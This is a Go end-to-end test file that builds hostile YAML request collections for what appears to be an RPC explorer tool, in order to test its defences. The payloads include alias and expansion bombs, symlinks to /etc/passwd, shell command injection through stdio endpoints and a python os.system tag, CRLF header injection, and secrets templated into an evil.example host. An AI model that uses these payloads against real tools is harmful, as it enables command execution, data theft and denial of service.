package e2e

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// A trap is a folder that somebody else has filled. In its texts ADDRESS is where we listen, OUTSIDE a folder that is none of its business,
// and TOUCH a file that no program may make.
type trap struct {
	files map[string]string                       // by path, with slashes
	lay   func(t *testing.T, dir, outside string) // what is no file; nil for nothing more
}

const (
	canary = "c4nary-of-somebody"
	lure   = "come-hither"

	sheerSize = "many files of 16 MiB"
	rtl       = "\u202egnp.yaml" // the right-to-left override
)

// request is a saved request with more lines, which a search for the lure finds.
func request(lines ...string) string {
	return "format: 1 # " + lure + "\n" + strings.Join(lines, "\n") + "\n"
}

// traps are hostile collections, by what they try.
var traps = map[string]trap{
	"anchors": {files: map[string]string{
		"collection.yaml":     request("a: &a [x,x,x,x,x,x,x,x,x]", "b: &b [*a,*a,*a,*a,*a,*a,*a,*a]", "c: &c [*b,*b,*b,*b,*b,*b,*b,*b]", "d: &d [*c,*c,*c,*c,*c,*c,*c]", "name: *d"),
		"one.yaml":            request("x: &x {y: *x}", "method: *x"),
		"two.yaml":            request("a: &a {method: b}", "<<: *a", "endpoint: tcp://ADDRESS"),
		"environments/e.yaml": request("v: &v [1]", "variables: {a: *v}"),
	}},
	"nesting": {files: map[string]string{
		"flow.yaml":  request("params: " + strings.Repeat("[", 900_000)),
		"block.yaml": request("x:\n  " + strings.Repeat("- ", 400_000)),
		"json.yaml":  request("endpoint: tcp://ADDRESS", "method: m", "params: |-", "  "+strings.Repeat("[", 500_000)+strings.Repeat("]", 500_000)),
	}},
	"dense": {files: map[string]string{
		"list.yaml": request("params: [" + strings.Repeat("1,", 8_000_000) + "1]"),
		"keys.yaml": "format: 1\n" + strings.Repeat("a:\n", 4_000_000),
	}},
	"sparse files of a gigabyte": {lay: func(t *testing.T, dir, _ string) {
		for _, name := range []string{"collection.yaml", "one.yaml", "folder/folder.yaml", "environments/e.yaml"} {
			put(t, dir, name, "")
			must(t, os.Truncate(filepath.Join(dir, name), 1<<30))
		}
	}},
	sheerSize: {lay: func(t *testing.T, dir, _ string) {
		for i := range 40 {
			name := fmt.Sprintf("r%d.yaml", i)
			put(t, dir, name, "format: 1\nmessage: |\n")
			must(t, os.Truncate(filepath.Join(dir, name), 16<<20))
		}
	}},
	"pipes": {lay: func(t *testing.T, dir, _ string) {
		for _, name := range []string{"collection.yaml", "one.yaml", "folder/folder.yaml", "environments/e.yaml", ".rpcexplorer-1.tmp"} {
			must(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755))
			must(t, syscall.Mkfifo(filepath.Join(dir, name), 0o644))
		}
	}},
	"a socket and devices": {lay: func(t *testing.T, dir, _ string) {
		must(t, os.Symlink("/dev/zero", filepath.Join(dir, "link.yaml")))
		must(t, os.Symlink("/dev/tty", filepath.Join(dir, "collection.yaml")))
		l, err := net.ListenUnix("unix", &net.UnixAddr{Name: filepath.Join(dir, "socket.yaml")})
		must(t, err)
		l.SetUnlinkOnClose(false)
		must(t, l.Close())
		if os.Geteuid() == 0 {
			must(t, syscall.Mknod(filepath.Join(dir, "zero.yaml"), syscall.S_IFCHR|0o644, 1<<8|5))
		}
	}},
	"links in circles": {files: map[string]string{"sub/one.yaml": request("method: m")}, lay: func(t *testing.T, dir, _ string) {
		for from, to := range map[string]string{"a.yaml": "b.yaml", "b.yaml": "a.yaml", "up": ".", "sub/loop": "../sub", "collection.yaml": "collection.yaml"} {
			must(t, os.Symlink(to, filepath.Join(dir, from)))
		}
	}},
	"links to elsewhere": {lay: func(t *testing.T, dir, outside string) {
		must(t, os.Mkdir(filepath.Join(dir, "sub"), 0o755))
		for from, to := range map[string]string{
			"a.yaml": "private.yaml", "collection.yaml": "private.yaml", "environments": "", "folder": "", "sub/folder.yaml": "private.yaml", ".rpcexplorer-1.tmp": "private.yaml",
		} {
			must(t, os.Symlink(filepath.Join(outside, to), filepath.Join(dir, from)))
		}
		must(t, os.Symlink("../../../../../../../../etc/passwd", filepath.Join(dir, "passwd.yaml")))
	}},
	"folders in the place of files": {files: map[string]string{
		"one.yaml/x.yaml": request("method: m"), "collection.yaml/x.yaml": request("method: m"), "folder/folder.yaml/x.yaml": request("method: m"), "environments": "a file",
	}},
	"names that deceive": {files: map[string]string{
		"collection.yaml":     request(`name: "Wal\u202elet\e[31m\r\nX"`, `endpoints: {"demo:": "tcp://ADDRESS", "http://good.example/": "http://ADDRESS/"}`, `order: ["../../etc/passwd", "/etc/passwd"]`),
		rtl:                   request(`name: "\e]0;title\a\e[2J"`, `endpoint: "demo:"`, `method: "a\u202eb\0c\nd"`),
		"new\nline.yaml":      request(`endpoint: "http://good.example/"`, `method: "{{secret.token}}"`, `params: ["password=hunter2"]`),
		"\x1b[31mred.yaml":    request("method: m"),
		"\xff\xfe.yaml":       request("method: m"),
		"аррӏе.yaml":          request("name: аррӏе", "method: pаypal"),
		"environments/e.yaml": request(`name: "\e[1m../../x"`, `color: "\e[31m"`),
	}},
	"names without end": {files: map[string]string{
		"long.yaml":  request("name: "+strings.Repeat("x", 900_000), "method: "+strings.Repeat("y", 100_000)),
		"zalgo.yaml": request("name: Z"+strings.Repeat("\u0337\u0489", 200_000), "method: m"),
		"url.yaml":   request("endpoint: http://ADDRESS/"+strings.Repeat("x/", 400_000), "method: m"),
	}},
	"secrets in addresses": {files: map[string]string{
		"collection.yaml": request("variables: {host: \"{{secret.token}}.ADDRESS\", \"secret.token\": \"mine\", \"env.HOME\": \"mine\"}"),
		"host.yaml":       request(`endpoint: "http://{{secret.token}}.evil.example/"`, "method: m"),
		"path.yaml":       request(`endpoint: "http://ADDRESS/{{secret.token}}?{{env.HOME}}"`, "method: m"),
		"user.yaml":       request(`endpoint: "http://{{secret.token}}@ADDRESS/"`, "method: m"),
		"variable.yaml":   request(`endpoint: "tcp://{{host}}"`, "method: m"),
	}},
	"secrets to another host": {files: map[string]string{
		"collection.yaml":        request("endpoints: {shop: \"http://{{host}}/\"}", "defaults: {endpoint: shop}", "variables: {host: shop.example}"),
		"environments/live.yaml": request("name: Live", "variables: {host: ADDRESS}"),
		"a.yaml":                 request("endpoint: http://ADDRESS/", "method: m", `headers: {Authorization: "Bearer {{secret.token}}"}`),
		"b.yaml":                 request("endpoint: shop", "method: m", `params: ["{{secret.token}}", "{{env.HOME}}", "{{env.SSH_AUTH_SOCK}}", "{{file.OUTSIDE/private.yaml}}", "{{file.../../x}}", {{file.e.yaml}}]`),
		"c.yaml":                 request("endpoint: http://ADDRESS/", "method: m", `params: ["{{response.a.result.token}}"]`),
	}},
	"programs": {files: map[string]string{
		"collection.yaml": request("endpoints:", `  "tcp://127.0.0.1:5001": "ndjson+stdio:/bin/sh -c 'touch TOUCH'"`, `  demo: "ndjson+stdio:touch TOUCH"`),
		"a.yaml":          request("endpoint: demo", "method: m"),
		"b.yaml":          request(`endpoint: "tcp://127.0.0.1:5001"`, "method: m"),
		"c.yaml":          request(`endpoint: "ndjson+stdio:cat;touch TOUCH"`, "method: m"),
		"d.yaml":          request(`endpoint: "lsp+stdio:sh -c 'touch${IFS}TOUCH' \u202esafe"`, "method: m"),
		"e.yaml":          request(`endpoint: "ndjson+stdio:`+strings.Repeat(" ", 4000)+`touch TOUCH"`, "method: m"),
		"f.yaml":          request(`endpoint: "ndjson+stdio:/usr/bin/env LD_PRELOAD=./x.so touch TOUCH"`, "method: m"),
	}},
	"headers": {files: map[string]string{
		"collection.yaml": request(`variables: {line: "x\r\nX-Evil: 1", nul: "a\0b"}`),
		"line.yaml":       request("endpoint: http://ADDRESS/", "method: m", `headers: {X: "{{line}}"}`),
		"name.yaml":       request("endpoint: http://ADDRESS/", "method: m", `headers: {"{{line}}": "x", "A B": "y"}`),
		"nul.yaml":        request(`endpoint: "http://ADDRESS/{{nul}}"`, "method: m"),
		"lines.yaml":      request("endpoint: http://ADDRESS/", "method: m", `headers: {X: "a\r\nY: b"}`),
		"path.yaml":       request(`endpoint: "http://ADDRESS/ HTTP/1.1\r\nX-Evil: 1\r\n\r\nGET /"`, "method: m"),
	}},
	"security switched off": {files: map[string]string{
		"collection.yaml": request("insecure: true", "verify: off", "proxy: http://ADDRESS", "follow: true", "defaults: {endpoint: \"https://ADDRESS/\", insecure: true, verify: off, proxy: \"http://ADDRESS\", timeout: 2s}", "access: {insecure: true, login: {user: a, password: b}}", "allow-exec: true", "own: true"),
		"folder.yaml":     request("trusted: true", "method: m"),
		"a.yaml":          request("method: m", "verify: off", "proxy: http://ADDRESS", "tls: {ca_file: /etc/passwd}", "history: false"),
		"b.yaml":          request(`endpoint: "https://ADDRESS/#insecure=true&follow=true"`, "method: m"),
	}},
	"expansion": {files: map[string]string{
		"collection.yaml": request("variables:", "  a: \"{{b}}{{b}}\"", "  b: \"{{c}}{{c}}\"", "  c: \"{{a}}\"", "  x0: \""+strings.Repeat("x", 64)+"\"", doubling(30)),
		"self.yaml":       request("endpoint: tcp://ADDRESS", "method: \"{{a}}\""),
		"bomb.yaml":       request("endpoint: tcp://ADDRESS", "method: m", "params: [\"{{x30}}\"]"),
		"open.yaml":       request("endpoint: tcp://ADDRESS", "method: m", "params: '"+strings.Repeat("{{", 200_000)+"'"),
	}},
	"numbers": {files: map[string]string{
		"format.yaml":  "format: 99999999999999999999\nmethod: m\n",
		"timeout.yaml": request("endpoint: tcp://ADDRESS", "method: m", "timeout: 9999999999999h"),
		"zero.yaml":    request("endpoint: tcp://ADDRESS", "method: m", "timeout: -1s"),
		"id.yaml":      request("endpoint: tcp://ADDRESS#socket=req&timeout=1ns", "method: m", "id: "+strings.Repeat("9", 500_000), "timeout: 1ns"),
	}},
	"sockets of the system": {files: map[string]string{
		"docker.yaml": request("endpoint: \"http+unix:///var/run/docker.sock:/containers/json\"", "method: m"),
		"bus.yaml":    request("endpoint: \"ndjson+unix://OUTSIDE/private.sock\"", "method: m"),
		"ipc.yaml":    request("endpoint: \"ipc://OUTSIDE/private.sock\"", "method: m"),
	}},
	"no texts": {files: map[string]string{
		"zip.yaml": "PK\x03\x04" + strings.Repeat("\x00\xff", 5000), "utf16.yaml": "\xff\xfef\x00o\x00r\x00m\x00a\x00t\x00:\x00 \x001\x00", "tag.yaml": request("method: !!python/object/apply:os.system [\"touch TOUCH\"]"),
		"directive.yaml": "%YAML 9.9\n%TAG ! tag:evil,2000:\n---\nformat: 1\nmethod: !x y\n", "binary.yaml": request("message: !!binary \""+strings.Repeat("/", 40_000)+"\"", "kind: raw", "endpoint: tcp://ADDRESS"),
	}},
	"many folders": {lay: func(t *testing.T, dir, _ string) {
		deep := dir
		for range 60 {
			deep = filepath.Join(deep, "d")
		}
		put(t, deep, "x.yaml", request("method: m"))
		for i := range 3000 {
			must(t, os.Mkdir(filepath.Join(dir, fmt.Sprint("f", i)), 0o755))
		}
	}},
}

// doubling are variables each of which is the one before twice.
func doubling(n int) string {
	var b strings.Builder
	for i := 1; i <= n; i++ {
		fmt.Fprintf(&b, "  x%d: \"{{x%d}}{{x%d}}\"\n", i, i-1, i-1)
	}
	return b.String()
}

// set makes the folder of a trap.
func (c trap) set(t *testing.T, dir, outside, address, touch string) {
	t.Helper()
	fill := strings.NewReplacer("ADDRESS", address, "OUTSIDE", outside, "TOUCH", touch)
	must(t, os.MkdirAll(dir, 0o755))
	for name, text := range c.files {
		put(t, dir, name, fill.Replace(text))
	}
	if c.lay != nil {
		c.lay(t, dir, outside)
	}
}

func put(t *testing.T, dir, name, text string) {
	t.Helper()
	path := filepath.Join(dir, filepath.FromSlash(name))
	must(t, os.MkdirAll(filepath.Dir(path), 0o755))
	must(t, os.WriteFile(path, []byte(text), 0o644))
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
